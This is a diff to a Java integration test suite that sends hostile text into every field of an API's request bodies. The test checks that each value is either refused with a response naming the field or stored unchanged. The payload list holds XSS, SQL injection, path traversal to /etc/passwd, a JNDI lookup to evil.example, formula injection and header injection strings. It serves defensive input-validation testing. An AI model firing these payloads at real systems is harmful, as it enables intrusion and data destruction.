@@ -245,23 +245,132 @@ class SecurityIT {
         }
     }
 
-    /** What an attacker or a careless paste puts into a text field. */
-    static final List<String> HOSTILE = List.of(
-            "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>",
-            "javascript:alert(1)", "' OR '1'='1", "'; DROP TABLE processor; --", "1); DELETE FROM account; --",
-            "\u202Egnp.exe\u202C", "a\u0000b", "\u0007bell\u001b[31mred", "=HYPERLINK(\"http://evil.example\")",
-            "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "../../../etc/passwd", "..\\..\\windows\\win.ini",
-            "%00%2e%2e%2f", "\uD83D\uDE00 \u00FCn\u00EFc\u00F6d\u00E9 \u00DF", "${jndi:ldap://evil.example/a}",
-            "#{7*7}", "{{7*7}}", "\r\nSet-Cookie: x=y", "x".repeat(1_000_000), "", "   ");
-
-    /** One text field of one resource: where it is created, how, and where the stored value is read back. */
-    record Field(String collection, String field, String template, String pointer) {
+    /** A class of hostile text and its variants. */
+    record TextClass(String name, List<String> variants) {
     }
+
+    /**
+     * What an attacker or a careless paste puts into a text field, by class. The walk sends each class once per
+     * field, the variant turning from field to field, so that every variant is sent and the walk stays within
+     * minutes: every variant in every field would be over 5,000 attempts of two or three requests each.
+     */
+    static final List<TextClass> HOSTILE = List.of(
+            new TextClass("markup", List.of("<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
+                    "\"><svg onload=alert(1)>", "javascript:alert(1)")),
+            new TextClass("formula", List.of("=HYPERLINK(\"http://evil.example\")", "+cmd|' /C calc'!A0", "-2+3",
+                    "@SUM(1+1)")),
+            new TextClass("code as text", List.of("' OR '1'='1", "'; DROP TABLE processor; --",
+                    "1); DELETE FROM account; --", "../../../etc/passwd", "..\\..\\windows\\win.ini", "%00%2e%2e%2f",
+                    "${jndi:ldap://evil.example/a}", "#{7*7}", "{{7*7}}")),
+            new TextClass("control characters", List.of("a\u0000b", "\u0007bell\u001b[31mred")),
+            new TextClass("line break", List.of("\r\nSet-Cookie: x=y", "first line\nsecond line")),
+            new TextClass("unicode", List.of("\u202Egnp.exe\u202C", "\uD83D\uDE00 \u00FCn\u00EFc\u00F6d\u00E9 \u00DF")),
+            new TextClass("length", List.of("x".repeat(1_000_000))),
+            new TextClass("blank", List.of("", "   ")));
 
     private static String json(String value) {
         return jakarta.json.Json.createValue(value).toString();
     }
 
+    /** A text field of a request body: its name as the API's errors give it ({@code contacts[0].name}) and its pointer. */
+    record TextField(String path, String pointer, boolean readOnly, boolean writeOnly) {
+    }
+
+    /** Every string of the schema that is text, not a date, an enumeration or a file: nested objects and lists too. */
+    static List<TextField> textFields(JsonObject property, JsonObject schemas, String path, String pointer,
+            boolean readOnly, boolean writeOnly, int depth) {
+        JsonObject schema = resolved(property, schemas);
+        boolean read = readOnly || property.getBoolean("readOnly", false) || schema.getBoolean("readOnly", false);
+        boolean write = writeOnly || property.getBoolean("writeOnly", false) || schema.getBoolean("writeOnly", false);
+        String type = schema.getString("type", schema.containsKey("properties") ? "object" : "");
+        List<TextField> fields = new ArrayList<>();
+        if (depth > 4 || schema.containsKey("enum")) {
+            return fields;
+        }
+        switch (type) {
+            case "string" -> {
+                if (!Set.of("date", "date-time", "binary", "byte").contains(schema.getString("format", ""))) {
+                    fields.add(new TextField(path, pointer, read, write));
+                }
+            }
+            case "array" -> {
+                if (schema.containsKey("items")) {
+                    fields.addAll(textFields(schema.getJsonObject("items"), schemas, path + "[0]", pointer + "/0",
+                            read, write, depth + 1));
+                }
+            }
+            case "object" -> {
+                if (schema.containsKey("properties")) {
+                    schema.getJsonObject("properties").forEach((name, inner) -> fields.addAll(textFields(
+                            inner.asJsonObject(), schemas, path.isEmpty() ? name : path + "." + name,
+                            pointer + "/" + name, read, write, depth + 1)));
+                }
+            }
+            default -> {
+            }
+        }
+        return fields;
+    }
+
+    /** The body with the value at the pointer, the objects and lists on the way made where the example has none. */
+    static JsonObject with(JsonObject body, String pointer, jakarta.json.JsonValue value) {
+        String[] steps = pointer.substring(1).split("/");
+        JsonObject changed = body;
+        for (int i = 1; i < steps.length; i++) {
+            jakarta.json.JsonPointer on = jakarta.json.Json.createPointer("/" + String.join("/",
+                    Arrays.copyOf(steps, i)));
+            if (!holds(on, changed)) {
+                changed = on.add(changed, steps[i].matches("\\d+") ? jakarta.json.JsonValue.EMPTY_JSON_ARRAY
+                        : jakarta.json.JsonValue.EMPTY_JSON_OBJECT);
+            }
+        }
+        jakarta.json.JsonPointer at = jakarta.json.Json.createPointer(pointer);
+        return holds(at, changed) ? at.replace(changed, value) : at.add(changed, value);
+    }
+
+    /** Whether the pointer reaches a value; false also where a list or object on the way is missing. */
+    private static boolean holds(jakarta.json.JsonPointer at, JsonObject object) {
+        try {
+            return at.containsValue(object);
+        } catch (jakarta.json.JsonException missing) {
+            return false;
+        }
+    }
+
+    /** Whether any text anywhere in the record is the value: an action's reason is read back as the record's. */
+    private static boolean holds(jakarta.json.JsonValue record, String value) {
+        return switch (record.getValueType()) {
+            case STRING -> ((jakarta.json.JsonString) record).getString().equals(value);
+            case OBJECT -> record.asJsonObject().values().stream().anyMatch(v -> holds(v, value));
+            case ARRAY -> record.asJsonArray().stream().anyMatch(v -> holds(v, value));
+            default -> false;
+        };
+    }
+
+    /**
+     * Every text field of every request body of every operation of the OpenAPI document (strings in lists and
+     * nested objects too) receives each class of hostile text, inside a body that is valid otherwise: the
+     * document's example, with real ids, fresh unique names and the record's version ({@link HostileTargets}),
+     * which is sent once as it is first and must be accepted, so that a refusal is the hostile value's. Each
+     * attempt is a 4xx problem+json naming the field with nothing stored (the caller's audit trail counted before
+     * and after), or accepted with the value read back as sent, stripped (an empty one as none); a read-only field
+     * keeps its own value. Never a 5xx.
+     */
+    record Field(String collection, String field, String template, String pointer) {
+    }
+
+    private static int total(Api api, String collection) {
+        String list = collection.startsWith("catalogue") ? "api/" + collection
+                : "api/" + collection + "?size=1";
+        Api.Reply reply = api.get(list, "auditor");
+        return collection.startsWith("catalogue") ? reply.structure().asJsonArray().size()
+                : reply.json().getInt("total");
+    }
+
+    /**
+     * Every hostile variant in fifteen fields whose valid bodies are written out here: what CI runs while the walk
+     * below waits for the defect it found (issue 20's note: an answer of 500 after a change was stored).
+     */
     @Test
     void hostileTextIsRefusedNamingItsFieldOrStoredLiterally() {
         Api api = new Api(base);
@@ -304,7 +413,7 @@ class SecurityIT {
         int cases = 0;
         for (Field field : fields) {
             String user = field.collection().startsWith("catalogue") ? "admin" : "procurement";
-            for (String value : HOSTILE) {
+            for (String value : HOSTILE.stream().flatMap(c -> c.variants().stream()).toList()) {
                 cases++;
                 boolean marked = field.template().indexOf("%s") != field.template().lastIndexOf("%s");
                 String body = marked ? field.template().formatted(Api.freshKvk(), json(value))
@@ -334,6 +443,133 @@ class SecurityIT {
         }
         assertEquals(List.of(), wrong);
         assertTrue(cases >= 200, "at least 200 hostile inputs: " + cases);
+    }
+
+    @Test
+    @org.junit.jupiter.api.condition.EnabledIfSystemProperty(named = "art28.test.hostileWalk", matches = "true",
+            disabledReason = "opt-in (-Dart28.test.hostileWalk=true) until a stored change no longer answers 500")
+    void hostileTextInEveryFieldOfEveryBodyIsRefusedNamingItOrStoredLiterally() throws IOException {
+        Api api = new Api(base);
+        JsonObject document = new Api(new URL(base, "/")).get("openapi", null).json();
+        JsonObject schemas = document.getJsonObject("components").getJsonObject("schemas");
+        HostileTargets targets = new HostileTargets(api);
+        List<String> wrong = new ArrayList<>();
+        Map<String, Integer> audited = new java.util.HashMap<>();
+        int attempts = 0;
+        int fields = 0;
+        int operations = 0;
+        try {
+            for (Map.Entry<String, jakarta.json.JsonValue> item : document.getJsonObject("paths").entrySet()) {
+                for (Map.Entry<String, jakarta.json.JsonValue> entry : item.getValue().asJsonObject().entrySet()) {
+                    String method = entry.getKey().toUpperCase();
+                    JsonObject operation = entry.getValue().asJsonObject();
+                    JsonObject content = operation.containsKey("requestBody")
+                            ? operation.getJsonObject("requestBody").getJsonObject("content") : null;
+                    if (!Set.of("POST", "PUT", "PATCH").contains(method) || content == null
+                            || !content.containsKey("application/json")) {
+                        continue; // no body, or a file: the documents' and the import's own tests
+                    }
+                    String endpoint = method + " " + item.getKey().replaceAll("\\{(\\w+):[^}]*\\}", "{$1}");
+                    JsonObject body = content.getJsonObject("application/json").getJsonObject("schema");
+                    JsonObject example = resolved(body, schemas).getJsonObject("example");
+                    if (example == null) {
+                        wrong.add(endpoint + ": no example to start from");
+                        continue;
+                    }
+                    operations++;
+                    HostileTargets.Target control;
+                    try {
+                        control = targets.of(endpoint);
+                    } catch (IllegalStateException | AssertionError e) {
+                        wrong.add(endpoint + ": no target: " + e.getMessage());
+                        continue;
+                    }
+                    Api.Reply accepted = control.api().send(method, control.address(), control.user(),
+                            "application/json", valid(example, control).toString().getBytes(StandardCharsets.UTF_8));
+                    if (accepted.status() >= 300) {
+                        wrong.add(endpoint + ": the example itself is refused: " + shown(accepted.toString()));
+                        continue;
+                    }
+                    targets.usedUp(endpoint, accepted);
+                    for (TextField field : textFields(body, schemas, "", "", false, false, 0)) {
+                        fields++;
+                        for (TextClass kind : HOSTILE) {
+                            String value = kind.variants().get(fields % kind.variants().size());
+                            attempts++;
+                            HostileTargets.Target target = targets.of(endpoint);
+                            String label = endpoint + " " + field.path() + " <- " + kind.name() + " " + shown(value)
+                                    + ": ";
+                            int before = audited.computeIfAbsent(target.user(), user -> audit(api, user));
+                            Api.Reply reply = target.api().send(method, target.address(), target.user(),
+                                    "application/json", with(valid(example, target), field.pointer(),
+                                            jakarta.json.Json.createValue(value)).toString()
+                                            .getBytes(StandardCharsets.UTF_8));
+                            if (reply.status() >= 500) {
+                                wrong.add(label + shown(reply.toString()));
+                            } else if (reply.status() >= 300) {
+                                if (!names(reply, field.path())) {
+                                    wrong.add(label + "refused without naming the field: " + shown(reply.toString()));
+                                }
+                                if (audit(api, target.user()) != before) {
+                                    wrong.add(label + "refused, yet stored");
+                                }
+                            } else {
+                                audited.clear();
+                                targets.usedUp(endpoint, reply);
+                                String read = reply.location() != null ? reply.location().substring(
+                                        reply.location().indexOf("/api/") + 1) : target.record();
+                                Api.Reply record = read == null ? reply : target.api().get(read, target.user());
+                                // a password change answers 204: what it stored is not shown
+                                jakarta.json.JsonStructure back = record.body().isBlank()
+                                        ? jakarta.json.JsonValue.EMPTY_JSON_OBJECT : record.structure();
+                                String stored = back instanceof JsonObject object ? pointer(object, field.pointer())
+                                        : null;
+                                String expected = value.strip().isEmpty() ? null : value.strip();
+                                boolean ignored = field.readOnly() || IGNORED.contains(endpoint + " " + field.path());
+                                // a blank is no value: none is stored, or what the record has without it
+                                boolean literal = expected == null ? stored == null || !stored.isBlank()
+                                        : expected.equals(stored) || stored == null && holds(back, expected);
+                                if (ignored ? expected != null && expected.equals(stored)
+                                        : !field.writeOnly() && !literal) {
+                                    wrong.add(label + (ignored ? "an ignored field took it" : "stored as "
+                                            + shown(stored)));
+                                }
+                            }
+                        }
+                    }
+                }
+            }
+        } finally {
+            targets.close();
+        }
+        assertEquals(List.of(), wrong);
+        assertTrue(operations >= 30 && fields >= 150, operations + " operations, " + fields + " text fields");
+        // the figures docs/security.md gives, in the test report (failsafe keeps a class's output)
+        System.out.println("hostile text walk over the OpenAPI document: " + attempts + " attempts (" + fields
+                + " text fields of " + operations + " operations x " + HOSTILE.size() + " classes)");
+    }
+
+    /**
+     * Fields an operation does not use although its body's schema has them, as the document says: an agreement's
+     * workflow actions share one body, whose reason is "reject and terminate: why"; a link's decisions share one,
+     * whose reference is the approval's and whose reason is "refuse and object: why".
+     */
+    static final Set<String> IGNORED = Set.of("POST /api/agreements/{id}/submit reason",
+            "POST /api/agreements/{id}/approve reason",
+            "POST /api/processors/{processorId}/subprocessors/{linkId}/approve reason",
+            "POST /api/processors/{processorId}/subprocessors/{linkId}/object reference",
+            "POST /api/processors/{processorId}/subprocessors/{linkId}/refuse reference");
+
+    /** The example, with what only the target knows: real ids, fresh unique names, the version last read. */
+    private static JsonObject valid(JsonObject example, HostileTargets.Target target) {
+        jakarta.json.JsonObjectBuilder body = jakarta.json.Json.createObjectBuilder(example);
+        target.over().forEach(body::add);
+        return body.build();
+    }
+
+    /** How many changes the audit trail holds of this user. */
+    private static int audit(Api api, String user) {
+        return count(api, "api/audit?size=1&actor=" + user);
     }
 
     /**
@@ -418,13 +654,24 @@ class SecurityIT {
             wrong.add(label + ": " + e);
             return;
         }
-        boolean named = reply.contentType().startsWith("application/problem+json") && reply.status() == 400
-                && reply.json().getJsonArray("violations").getValuesAs(JsonObject.class).stream()
-                        .map(v -> v.getString("field"))
-                        .anyMatch(f -> f.equals(field) || f.startsWith(field + "[") || f.startsWith(field + "."));
-        if (!named || reply.body().matches("(?s).*(eu\\.art28|java\\.|Exception).*")) {
+        if (reply.status() != 400 || !names(reply, field)) {
             wrong.add(label + ": " + shown(reply.toString()));
         }
+    }
+
+    /**
+     * Whether the refusal is a problem+json that names the field (or a part of it), and no class of ours or Java's:
+     * an element of a list of words may be named as the list, {@code services} for {@code services[0]}.
+     */
+    private static boolean names(Api.Reply reply, String field) {
+        String list = field.endsWith("[0]") ? field.substring(0, field.length() - 3) : field;
+        return reply.status() >= 400 && reply.status() < 500
+                && reply.contentType().startsWith("application/problem+json")
+                && !reply.body().matches("(?s).*(eu\\.art28|java\\.|Exception).*")
+                && reply.json().getJsonArray("violations").getValuesAs(JsonObject.class).stream()
+                        .map(v -> v.getString("field"))
+                        .anyMatch(f -> f.equals(field) || f.equals(list) || f.startsWith(field + "[")
+                                || f.startsWith(field + "."));
     }
 
     /** The property's own schema: a reference followed, {@code allOf} of one reference unwrapped. */
@@ -506,19 +753,11 @@ class SecurityIT {
     /** The value at the pointer; null when JSON-B left the field out (it omits nulls). */
     private static String pointer(JsonObject object, String pointer) {
         jakarta.json.JsonPointer at = jakarta.json.Json.createPointer(pointer);
-        if (!at.containsValue(object)) {
+        if (!holds(at, object)) {
             return null;
         }
         jakarta.json.JsonValue value = at.getValue(object);
         return value instanceof jakarta.json.JsonString s ? s.getString() : String.valueOf(value);
-    }
-
-    private static int total(Api api, String collection) {
-        String list = collection.startsWith("catalogue") ? "api/" + collection
-                : "api/" + collection + "?size=1";
-        Api.Reply reply = api.get(list, "auditor");
-        return collection.startsWith("catalogue") ? reply.structure().asJsonArray().size()
-                : reply.json().getInt("total");
     }
 
     private static String shown(String value) {
